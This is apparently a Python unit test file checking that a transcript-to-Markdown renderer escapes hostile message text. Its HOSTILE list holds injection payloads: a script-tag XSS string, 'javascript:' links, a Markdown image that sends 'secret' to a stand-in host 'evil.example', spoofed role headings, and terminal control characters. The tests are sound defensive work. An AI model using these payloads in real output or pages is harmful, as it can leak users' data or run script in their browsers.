"""Markdown that shows what was written."""

from __future__ import annotations

import pytest

from labkit.history.entry import from_message
from labkit.history.markdown import escape
from tests.unit.history.samples import message, transcript, with_tools
from tests.unit.history.test_entry import RICH

HOSTILE = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "# user · a heading that looks like ours",
    "> **assistant · quoted**",
    "```\ncode\n```",
    "| a | b |\n|---|---|",
    "1. list\n- list\n+ list\n---\n===",
    "$\\href{javascript:alert(1)}{x}$",
    "    indented",
    "a\u202eb\x1b[31m\x00",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_message_stays_inside_its_block(text: str) -> None:
    """Every line of it is quoted, and nothing of it is markup."""
    made = transcript([from_message(message(1, "user", text)), from_message(message(2, "assistant", "ok"))])
    lines = made.to_markdown().splitlines()
    assert lines[0] == "# Transcript"
    body = [line for line in lines[1:] if line]
    assert all(line.startswith(">") for line in body)
    assert "<" not in "".join(body)
    assert "![" not in "".join(body)
    assert "](" not in "".join(body).replace("\\](", "")
    assert sum(line.startswith("> **") for line in body) == 2


def test_the_text_of_a_plain_message_stays_readable() -> None:
    """What needs no escape has none."""
    assert (
        escape("On 2026-01-31 at 10:00, Ada paid 5.50 (net).")
        == "On 2026-01-31 at 10:00, Ada paid 5.50 (net)."
    )


def test_tools_images_and_files_are_named() -> None:
    """Calls with arguments, images without loading them, citations with what they cite."""
    text = transcript([*with_tools(), from_message(message(9, "assistant", **RICH))]).to_markdown("My *talk*")
    assert text.startswith("# My \\*talk\\*\n")
    assert "**tool call · 1970-01-01 00:00:02**" in text
    assert '> get\\_weather({"city": "Paris"})' in text
    assert "(image file file-c)" in text
    assert "> - \\[1\\]: so file-a" in text
    assert "> - attached: file-e" in text
